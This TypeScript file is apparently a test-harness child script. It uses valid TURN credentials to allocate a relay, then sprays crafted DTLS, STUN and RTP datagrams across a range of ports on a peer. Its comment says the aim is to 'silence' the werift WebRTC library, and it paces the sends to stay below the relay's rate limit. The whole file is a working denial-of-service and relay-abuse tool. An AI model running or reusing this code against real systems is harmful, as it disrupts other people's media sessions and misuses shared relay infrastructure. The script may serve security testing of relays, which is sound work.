import { z } from 'zod';
import { TurnClient } from './turn-client.ts';

/*
 * A student whose credential is good, and who sends what silences werift unless it is kept from it to every port that the
 * relay lets him reach. `node spray-child.ts TASK` prints how many datagrams went out.
 */

const SprayTask = z.object({
  /** Where credentials are given. */
  config: z.url(),
  peer: z.string(),
  /** First and last. */
  ports: z.array(z.number()).length(2),
});
export type SprayTask = z.infer<typeof SprayTask>;

const IceServers = z.array(z.object({ urls: z.array(z.string()).min(1), username: z.string(), credential: z.string() }));

/** An alert that closes, a record of no known kind, a STUN request without integrity, RTP from nobody. */
const shots = [
  '15fefd000000000000000000020228',
  '3ffefd000000000000000000020101',
  `000100002112a442${'00'.repeat(12)}`,
  `8060000100000001deadbeef${'00'.repeat(20)}`,
].map((hex) => Buffer.from(hex, 'hex'));
/** Below what the relay lets one session send. */
const portsAtOnce = 16;
const pauseMs = 10;

async function spray({ config, peer, ports: [first = 0, last = 0] }: SprayTask): Promise<number> {
  const [server] = IceServers.parse(await (await fetch(config)).json());
  if (server === undefined) throw new Error('no relay');
  using client = new TurnClient(server.urls[0] ?? '', server);
  if ((await client.allocate()) !== 0) throw new Error('no allocation');
  if ((await client.permit({ address: peer, port: first })) !== 0) throw new Error('no permission');
  let sent = 0;
  for (let port = first; port <= last; port += 1) {
    for (const shot of shots) client.send({ address: peer, port }, shot);
    sent += shots.length;
    if (port % portsAtOnce === 0) await new Promise((resolve) => setTimeout(resolve, pauseMs));
  }
  // Answered behind all of them: they went through.
  if ((await client.refresh(600)) !== 0) throw new Error('the allocation was lost');
  return sent;
}

if (process.argv[1] === import.meta.filename) {
  console.log(await spray(SprayTask.parse(JSON.parse(process.argv[2] ?? '{}'))));
  process.exit(0);
}
